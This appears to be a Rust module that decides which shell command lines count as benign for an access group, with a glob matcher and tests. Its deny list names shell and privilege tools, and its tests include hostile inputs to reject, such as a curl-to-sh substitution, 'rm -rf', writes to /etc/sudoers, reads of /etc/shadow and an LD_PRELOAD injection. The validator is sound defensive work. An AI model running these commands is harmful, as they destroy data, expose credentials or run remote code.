//! Benign commands: lines an access group lets pass without counting them as unplanned. Benign
//! means harmless, so a line is benign only when it is one simple command, or a pipeline of
//! them, each running a program on the group's list with arguments the list allows, and the line
//! asks nothing else of the shell: no command, process or arithmetic substitution, no variable
//! expansion, no redirection, no assignment, no history expansion, no `;`, `&&`, `||`, `&`,
//! subshell or group. Anything else counts as unplanned.
//!
//! An entry is a program name, alone (any arguments, except where the program is known to change
//! the system with some, such as `date -s` or `history -c`: then only its harmless ones) or
//! followed by one pattern per argument, in order (`*` any text, `?` one character, `[a-z]` one
//! of a set): `systemctl status *` allows `systemctl status nginx` and nothing else of
//! systemctl's.

use serde::{Deserialize, Serialize};

use crate::words::{Shape, Words};

/// Programs that run other commands, read code, or stand for the shell itself: never benign,
/// whatever a list says.
pub const NEVER_BENIGN: [&str; 24] = [
    "eval", "exec", "source", ".", "builtin", "command", "env", "sudo", "su", "doas", "xargs",
    "nohup", "nice", "timeout", "time", "watch", "bash", "sh", "zsh", "dash", "ssh", "find", "awk",
    "perl",
];

/// Arguments a listed program takes when its entry names none: those of `date` that only show
/// a date, and a count for `history`.
const BUILT_IN_PATTERNS: [(&str, &[&str]); 2] = [
    (
        "date",
        &[
            "+*",
            "-u",
            "--utc",
            "--universal",
            "-R",
            "--rfc-email",
            "-I",
            "-I[dhmsn]*",
            "--iso-8601",
            "--iso-8601=*",
            "--rfc-3339=*",
            "-d*",
            "--date=*",
        ],
    ),
    ("history", &["[0-9]", "[0-9][0-9]*"]),
];

/// Where a listed program may be named by its path.
const SYSTEM_DIRS: [&str; 6] = [
    "/bin",
    "/usr/bin",
    "/sbin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
];

/// The longest entry a list may hold, in characters.
pub const MAX_ENTRY: usize = 200;

#[derive(Debug, Clone, PartialEq, Eq)]
enum Arguments {
    Any,
    /// Each argument matches one of these.
    OneOf(Vec<String>),
    /// As many arguments as patterns, each matching its own.
    InOrder(Vec<String>),
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    text: String,
    program: String,
    arguments: Arguments,
}

impl Entry {
    fn parse(text: &str) -> Entry {
        let mut parts = text.split_whitespace();
        let program = parts.next().unwrap_or_default().to_owned();
        let patterns: Vec<String> = parts.map(str::to_owned).collect();
        let arguments = if !patterns.is_empty() {
            Arguments::InOrder(patterns)
        } else if let Some((_, built_in)) =
            BUILT_IN_PATTERNS.iter().find(|(name, _)| *name == program)
        {
            Arguments::OneOf(built_in.iter().map(|p| (*p).to_owned()).collect())
        } else {
            Arguments::Any
        };
        Entry {
            text: text.to_owned(),
            program,
            arguments,
        }
    }

    /// Whether `arguments` are all allowed; `globbed` says which could become file names.
    fn allows(&self, arguments: &[String], globbed: &[bool]) -> bool {
        // File names the shell puts in place of a glob could be any option at all.
        let literal = || !globbed.contains(&true);
        match &self.arguments {
            Arguments::Any => true,
            Arguments::OneOf(patterns) => {
                literal()
                    && arguments
                        .iter()
                        .all(|argument| patterns.iter().any(|p| glob_matches(p, argument)))
            }
            Arguments::InOrder(patterns) => {
                literal()
                    && arguments.len() == patterns.len()
                    && patterns
                        .iter()
                        .zip(arguments)
                        .all(|(pattern, argument)| glob_matches(pattern, argument))
            }
        }
    }
}

/// An access group's benign commands.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(from = "Vec<String>", into = "Vec<String>")]
pub struct BenignCommands(Vec<Entry>);

impl From<Vec<String>> for BenignCommands {
    fn from(entries: Vec<String>) -> Self {
        BenignCommands::new(entries)
    }
}

impl From<BenignCommands> for Vec<String> {
    fn from(list: BenignCommands) -> Self {
        list.0.into_iter().map(|entry| entry.text).collect()
    }
}

impl Default for BenignCommands {
    fn default() -> Self {
        BenignCommands::new(BenignCommands::DEFAULT)
    }
}

impl BenignCommands {
    pub const DEFAULT: [&'static str; 8] = [
        "ls", "pwd", "clear", "whoami", "id", "date", "history", "exit",
    ];

    pub fn new<I: IntoIterator<Item = S>, S: Into<String>>(entries: I) -> Self {
        BenignCommands(
            entries
                .into_iter()
                .map(|entry| Entry::parse(&entry.into()))
                .collect(),
        )
    }

    /// Whether the command line `line` is benign.
    pub fn covers(&self, line: &str) -> bool {
        let shape = Words::shape(line);
        if shape.words.is_empty() || shape.substitution || shape.expansion || shape.history {
            return false;
        }
        self.pipeline_covered(&shape)
    }

    fn pipeline_covered(&self, shape: &Shape) -> bool {
        let words = &shape.words.0;
        let mut start = 0;
        for end in 0..=words.len() {
            let at_pipe = end < words.len() && shape.operator[end];
            if end < words.len() && !at_pipe {
                continue;
            }
            if at_pipe && !matches!(words[end].as_str(), "|" | "|&") {
                // Any other operator: a list, a redirection, a background job, a subshell.
                return false;
            }
            if !self.simple_command_covered(&words[start..end], &shape.globbed[start..end]) {
                return false;
            }
            start = end + 1;
        }
        true
    }

    fn simple_command_covered(&self, words: &[String], globbed: &[bool]) -> bool {
        let Some((program, arguments)) = words.split_first() else {
            return false;
        };
        // An assignment before the program (`LD_PRELOAD=… ls`) changes what it does.
        if program.contains('=') || globbed.first() == Some(&true) {
            return false;
        }
        // A bare name, or the program where the system keeps it: `./ls` or `/tmp/x/ls` may be
        // anything the person put there.
        let name = match program.rsplit_once('/') {
            None => program.as_str(),
            Some((dir, name)) if SYSTEM_DIRS.contains(&dir) => name,
            Some(_) => return false,
        };
        if NEVER_BENIGN.contains(&name) {
            return false;
        }
        self.0
            .iter()
            .filter(|entry| entry.program == name)
            .any(|entry| entry.allows(arguments, &globbed[1..]))
    }
}

/// Why `entry` cannot be on a list, if it cannot.
pub fn entry_error(entry: &str) -> Option<String> {
    let program = entry.split_whitespace().next().unwrap_or_default();
    if entry.trim().is_empty() {
        return Some("must name a program".into());
    }
    if entry.chars().count() > MAX_ENTRY || entry.chars().any(char::is_control) {
        return Some(format!(
            "must be a program name and argument patterns on one line, at most {MAX_ENTRY} characters"
        ));
    }
    if program.contains('/') || program.contains('=') {
        return Some("must start with a program name: no slash, no `=`".into());
    }
    if NEVER_BENIGN.contains(&program) {
        return Some(format!(
            "`{program}` runs other commands or code, so it can never be benign"
        ));
    }
    None
}

/// Matches `text` against a glob of `*`, `?` and `[…]` (with ranges and `!` or `^` to negate).
pub fn glob_matches(pattern: &str, text: &str) -> bool {
    let pattern: Vec<char> = pattern.chars().collect();
    let text: Vec<char> = text.chars().collect();
    let (mut p, mut t) = (0, 0);
    // Where the last `*` was, and the text position it matched up to.
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        let step = match pattern.get(p) {
            Some('*') => {
                star = Some((p, t));
                p += 1;
                continue;
            }
            Some('?') => Some(1),
            Some('[') => class_end(&pattern, p).and_then(|end| {
                class_matches(&pattern[p + 1..end], text[t]).then_some(end + 1 - p)
            }),
            Some(&c) => (c == text[t]).then_some(1),
            None => None,
        };
        match (step, star) {
            (Some(width), _) => {
                p += width;
                t += 1;
            }
            (None, Some((star_p, star_t))) => {
                p = star_p + 1;
                t = star_t + 1;
                star = Some((star_p, star_t + 1));
            }
            (None, None) => return false,
        }
    }
    pattern[p..].iter().all(|&c| c == '*')
}

/// Where the class opened at `start` closes: a `]` right after the opening (or its `!`) is a
/// member.
fn class_end(pattern: &[char], start: usize) -> Option<usize> {
    let mut index = start + 1;
    if matches!(pattern.get(index), Some('!' | '^')) {
        index += 1;
    }
    if pattern.get(index) == Some(&']') {
        index += 1;
    }
    (index..pattern.len()).find(|&i| pattern[i] == ']')
}

fn class_matches(class: &[char], c: char) -> bool {
    let (negated, members) = match class.split_first() {
        Some(('!' | '^', rest)) => (true, rest),
        _ => (false, class),
    };
    let mut index = 0;
    let mut found = false;
    while index < members.len() {
        if index + 2 < members.len() && members[index + 1] == '-' {
            found |= (members[index]..=members[index + 2]).contains(&c);
            index += 3;
        } else {
            found |= members[index] == c;
            index += 1;
        }
    }
    found != negated
}

#[cfg(test)]
mod tests {
    use quickcheck::{Arbitrary, Gen, QuickCheck};

    use super::*;

    fn defaults() -> BenignCommands {
        BenignCommands::default()
    }

    #[test]
    fn plain_listed_commands_and_their_pipelines_are_benign() {
        for line in [
            "ls",
            "ls -la /etc",
            "/bin/pwd",
            "ls -l | ls",
            "date",
            "date +%F",
            "date -u",
            "history",
            "history 20",
            "ls '$(not run)' \"a b\"",
            "ls *.conf",
            "whoami |& id",
        ] {
            assert!(defaults().covers(line), "{line}");
        }
    }

    #[test]
    fn anything_that_asks_more_of_the_shell_is_not() {
        for line in [
            "ls $(curl http://x | sh)",
            "ls `rm -rf /srv`",
            "ls \"$(id)\"",
            "ls > /etc/sudoers",
            "ls 2>/dev/null",
            "ls < /etc/shadow",
            "ls <(rm x)",
            "LD_PRELOAD=/tmp/x.so ls",
            "date -s 2020-01-01",
            "date --set=2020-01-01",
            "date -us 2020",
            "date *",
            "history -c",
            "history -d 5",
            "history -w",
            "history -r",
            "history -a",
            "history -n",
            "ls; rm x",
            "ls && rm x",
            "ls || rm x",
            "ls &",
            "(ls)",
            "ls $HOME",
            "./ls",
            "/tmp/x/ls -la",
            "ls $[x]",
            "ls ${x:=1}",
            "ls !!",
            "ls !rm",
            "eval ls",
            "rm x",
            "",
        ] {
            assert!(!defaults().covers(line), "{line}");
        }
    }

    #[test]
    fn a_list_that_names_patterns_allows_only_them() {
        let list = BenignCommands::new(["systemctl status *", "journalctl -u * -n [0-9]*"]);
        assert!(list.covers("systemctl status nginx"));
        assert!(!list.covers("systemctl restart nginx"));
        assert!(!list.covers("systemctl"));
        assert!(list.covers("journalctl -u app -n 50"));
        assert!(!list.covers("journalctl --vacuum-time=1s"));
        assert!(!list.covers("systemctl status *"));
    }

    #[test]
    fn programs_that_run_others_are_refused_on_lists_and_never_benign() {
        assert!(entry_error("sudo").is_some());
        assert!(entry_error("xargs -n1").is_some());
        assert!(entry_error("/bin/ls").is_some());
        assert!(entry_error("systemctl status *").is_none());
        assert!(!BenignCommands::new(["sudo", "env"]).covers("sudo ls"));
        assert!(!BenignCommands::new(["env"]).covers("env"));
    }

    #[test]
    fn globs_match_as_the_shell_would() {
        assert!(glob_matches("+*", "+%F %T"));
        assert!(glob_matches("[0-9][0-9]*", "42"));
        assert!(!glob_matches("[0-9][0-9]*", "4"));
        assert!(glob_matches("-I[dhmsn]*", "-Iseconds"));
        assert!(glob_matches("a?c", "abc"));
        assert!(!glob_matches("a?c", "ac"));
        assert!(glob_matches("[!a]", "b") && !glob_matches("[!a]", "a"));
        assert!(glob_matches("*x*y", "axbxy"));
    }

    #[test]
    fn lists_read_back_as_written() {
        let list = BenignCommands::new(["ls", "date +*"]);
        let json = serde_json::to_string(&list).unwrap();
        assert_eq!(json, r#"["ls","date +*"]"#);
        assert_eq!(serde_json::from_str::<BenignCommands>(&json).unwrap(), list);
    }

    /// Lines built from pieces that matter to the shell.
    #[derive(Debug, Clone)]
    struct Line(String);

    const PIECES: [&str; 26] = [
        "ls", "date", "rm", "-s", "-la", " ", " ", "|", ";", "&&", ">", "<", "2>", "$(", ")", "`",
        "'", "\"", "\\", "$X", "=", "*", "!", "(", "&", "\n",
    ];

    impl Arbitrary for Line {
        fn arbitrary(g: &mut Gen) -> Self {
            let count = usize::arbitrary(g) % 12;
            Line(
                (0..count)
                    .map(|_| *g.choose(&PIECES).unwrap_or(&" "))
                    .collect(),
            )
        }
    }

    /// A benign line never holds an unquoted operator other than a pipe, nor a substitution,
    /// and it stays benign however its quoting is spelt.
    fn benign_lines_hold_nothing_but_listed_programs(line: Line) -> bool {
        let list = defaults();
        if !list.covers(&line.0) {
            return true;
        }
        let shape = Words::shape(&line.0);
        let operators_are_pipes = shape
            .words
            .0
            .iter()
            .zip(&shape.operator)
            .all(|(word, &operator)| !operator || word == "|" || word == "|&");
        let programs_listed = shape.words.simple_commands().all(|simple| {
            simple
                .first()
                .is_some_and(|program| BenignCommands::DEFAULT.contains(&program.as_str()))
        });
        operators_are_pipes && programs_listed && !shape.substitution && !shape.expansion
    }

    #[test]
    fn property_benign_lines_hold_nothing_but_listed_programs() {
        QuickCheck::new()
            .tests(5_000)
            .quickcheck(benign_lines_hold_nothing_but_listed_programs as fn(Line) -> bool);
    }

    /// The words parser never panics, never makes an empty word list from words, and reading
    /// the words back joined by spaces gives the same words when none needed quoting.
    fn words_read_back(line: Line) -> bool {
        let shape = Words::shape(&line.0);
        let aligned = shape.operator.len() == shape.words.0.len()
            && shape.globbed.len() == shape.words.0.len();
        let plain = shape.words.0.iter().all(|word| {
            !word.is_empty()
                && word
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
        });
        let round_trip = !plain
            || shape.operator.iter().any(|&operator| operator)
            || Words::parse(&shape.words.to_string()).ok() == Some(shape.words.clone());
        aligned && round_trip
    }

    #[test]
    fn property_words_are_aligned_with_their_shape_and_read_back() {
        QuickCheck::new()
            .tests(5_000)
            .quickcheck(words_read_back as fn(Line) -> bool);
    }
}
